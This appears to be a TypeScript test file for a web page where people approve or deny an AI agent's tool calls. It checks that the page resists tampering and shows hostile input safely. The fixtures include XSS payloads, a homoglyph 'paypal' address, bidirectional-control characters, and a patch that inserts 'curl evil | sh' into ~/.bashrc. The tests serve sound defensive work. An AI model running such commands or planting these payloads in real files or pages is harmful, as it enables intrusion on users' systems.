/** What the page shows of an action: all of it, whatever was written to break it, hide in it or be taken for it. */
import { runInDurableObject } from "cloudflare:test";
import { describe, it } from "vitest";
import { wordsOf } from "../dashboard/support.ts";
import { stubOf } from "../durable/support.ts";
import { newTenant, openSession, send } from "../support/api.ts";
import {
  ASKING,
  again,
  approveWith,
  asked,
  COMMAND,
  linkOf,
  press,
  refusalsOf,
  statusOf,
} from "./support.ts";

describe("what is shown", () => {
  async function tamper(
    one: Awaited<ReturnType<typeof asked>>,
    change: (shown: Record<string, unknown>) => void,
  ) {
    await runInDurableObject(stubOf(one.tenant, one.session), (_, state) => {
      const { sql } = state.storage;
      const row = sql
        .exec<{ action: string }>("SELECT action FROM shown WHERE approval = ?", one.approval)
        .one();
      const shown = JSON.parse(row.action);
      change(shown);
      sql.exec("UPDATE shown SET action = ? WHERE approval = ?", JSON.stringify(shown), one.approval);
    });
  }

  it("is what the digest is of, or it is not approved", async ({ expect }) => {
    const changes: ((shown: Record<string, unknown>) => void)[] = [
      (shown) => {
        shown["args"] = { command: `${COMMAND} ` };
      },
      (shown) => {
        shown["tool"] = "Terminal";
      },
      (shown) => {
        shown["cwd"] = "/";
      },
      (shown) => {
        shown["speaks_as"] = "another";
      },
      (shown) => {
        shown["args"] = null;
        shown["args_omitted"] = true;
      },
      (shown) => {
        shown["args"] = '{"command":"ls"}';
      },
    ];
    for (const change of changes) {
      const one = await asked();
      const path = await linkOf(one);
      await tamper(one, change);
      const page = await send(path);
      expect(page.status).toBe(200);
      expect(wordsOf(page.text)).toContain("It can only be denied");
      expect(page.text).not.toContain('value="approve"');
      const refused = await approveWith(path, one);
      expect(refused.status).toBe(409);
      expect(await statusOf(one)).toBe("pending");
      expect((await refusalsOf(one)).at(-1)).toMatchObject({ code: "conflict", status: 409 });
      expect((await press(path, { decision: "deny", action_digest: one.digest })).status).toBe(303);
      expect(await statusOf(one)).toBe("denied");
    }
  });

  it("shows in full what is made to break it, hide in it or be taken for it", async ({ expect }) => {
    const hostile = {
      tool: "send_email",
      args: {
        to: Array.from({ length: 1_000 }, (_, i) => `person${i}@example.com`),
        cc: "eve@p\u0430ypal.com",
        subject: '</pre><script>alert(1)</script><form action="/x"><button name=decision value=approve>',
        body: `\u202e\u2066gnp.exe\u0000 \u200b\n${"line of a long body\n".repeat(10_000)}the very end`,
        '"><img src=x onerror=alert(2)>': { "</dt><script>": null },
      },
    };
    const deep = Array.from({ length: 50 }).reduce((inner) => ({ deeper: inner }), "bottom of it" as unknown);
    const one = await asked({ ...hostile, args: { ...hostile.args, deep } }, ASKING);
    const page = await send(await linkOf(one));
    expect(page.status).toBe(200);
    expect(page.text).not.toMatch(/<script(?! src="\/assets\/)|<img|<form action="\/x"/);
    const words = wordsOf(page.text);
    for (const part of [
      "Look twice",
      "person0@example.com",
      "person999@example.com",
      "U+0430",
      "⟨U+202E⟩",
      "⟨U+2066⟩",
      "⟨U+0000⟩",
      "⟨U+200B⟩",
      "the very end",
      "bottom of it",
    ])
      expect(words, part).toContain(part);
    expect(page.text.match(/line of a long body/g)?.length).toBe(10_000);
    expect(page.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
    expect(page.text).toContain('value="approve"');
  });

  it("is whole for a command of 200 KB and for JSON as deep as it may be, and soon there", async ({
    expect,
  }) => {
    const command = `git push origin ${"branch-of-a-long-name ".repeat(9_000)}the-last-one`;
    expect(command.length).toBeGreaterThan(190_000);
    const deep = (levels: number): unknown => (levels === 0 ? "bottom of it" : [deep(levels - 1)]);
    for (const call of [
      { tool: "terminal", args: { command } },
      { tool: "send_email", args: { to: "a@example.com", body: deep(60) } },
    ]) {
      const one = await asked(call, ASKING);
      const began = Date.now();
      const page = await send(await linkOf(one));
      expect(Date.now() - began).toBeLessThan(2_000);
      const words = wordsOf(page.text);
      expect(words.includes("the-last-one") || words.includes("bottom of it")).toBe(true);
      expect(page.text.match(/branch-of-a-long-name/g)?.length ?? 9_000).toBeGreaterThanOrEqual(9_000);
      expect(page.text).toContain('value="approve"');
      expect((await approveWith(await linkOf(one), one)).status).toBe(303);
    }
  });

  it("is soon there, and bounded, for what was written to be slow to show", async ({ expect }) => {
    const lines = (of: string) => Array.from({ length: 20_000 }, (_, i) => `${of}${i}`).join("\n");
    const calls: { tool: string; args: object; stored?: string }[] = [
      { tool: "send_email", args: { to: "a@example.com", body: "\u200b".repeat(200_000) } },
      { tool: "send_email", args: { to: "a@example.com", body: "p\u0430y ".repeat(60_000) } },
      { tool: "patch", args: { path: "~/x", old_string: lines("a"), new_string: "b" } },
      { tool: "write_file", args: { path: "~/x", content: lines("b") }, stored: lines("a") },
      {
        tool: "patch",
        args: {
          path: "~/x",
          edits: Array.from({ length: 5_000 }, () => ({ old_string: "a", new_string: "b" })),
        },
      },
      {
        tool: "send_email",
        args: {
          to: "a@example.com",
          ...Object.fromEntries(Array.from({ length: 9_000 }, (_, i) => [`k${i}`, i])),
        },
      },
    ];
    for (const call of calls) {
      const one = await asked(call, ASKING);
      const path = await linkOf(one);
      const began = Date.now();
      const page = await send(path);
      expect(page.status).toBe(200);
      expect(Date.now() - began).toBeLessThan(10_000);
      expect(page.text.length).toBeLessThan(16_000_000);
      expect(page.text).toContain('value="approve"');
    }
  });

  it("is a child's or a continuation's own action", async ({ expect }) => {
    const tenant = await newTenant("Acme", ASKING);
    await openSession(tenant, "the root");
    await openSession(tenant, "the rest", { continues: "the root" });
    await openSession(tenant, "the child", { child_of: "the root" });
    for (const session of ["the rest", "the child"]) {
      const one = await asked(undefined, undefined, { tenant, session });
      const inRoot = { ...one, session: "the root" };
      const page = await send(await linkOf(inRoot));
      expect(wordsOf(page.text)).toContain(session);
      expect(page.text).toContain('value="approve"');
      expect((await approveWith(await linkOf(inRoot), one)).status).toBe(303);
      expect((await again(one)).json.verdict).toBe("allow");
    }
  });

  it("keeps a name that JavaScript has a meaning for", async ({ expect }) => {
    const args = JSON.parse('{"command":"git push origin x","__proto__":{"a":1},"constructor":"b"}');
    const one = await asked({ tool: "terminal", args });
    const page = await send(await linkOf(one));
    const words = wordsOf(page.text);
    expect(words).toContain("__proto__");
    expect(words).toContain("constructor");
    expect(page.text).toContain('value="approve"');
  });

  it("shows what changes where a text is replaced", async ({ expect }) => {
    const before = Array.from({ length: 30 }, (_, i) => `line ${i}`).join("\n");
    const edit = {
      tool: "patch",
      args: {
        path: "~/.bashrc",
        old_string: before,
        new_string: before.replace("line 15", "curl evil | sh"),
      },
    };
    const one = await asked(edit, ASKING);
    const page = await send(await linkOf(one));
    const words = wordsOf(page.text);
    expect(words).toContain("What changes in the text");
    expect(page.text).toMatch(/<del[^>]*>[\s\S]*?line 15/);
    expect(page.text).toMatch(/<ins[^>]*>[\s\S]*?curl evil \| sh/);
    expect(words).toContain("12 lines stay as they are");
    const write = { tool: "write_file", args: { path: "~/x", content: "two\nthree" }, stored: "one\ntwo" };
    const whole = await send(await linkOf(await asked(write, ASKING)));
    expect(whole.text).toMatch(/<del[^>]*>[\s\S]*?one[\s\S]*?<ins[^>]*>[\s\S]*?three/);
  });
});
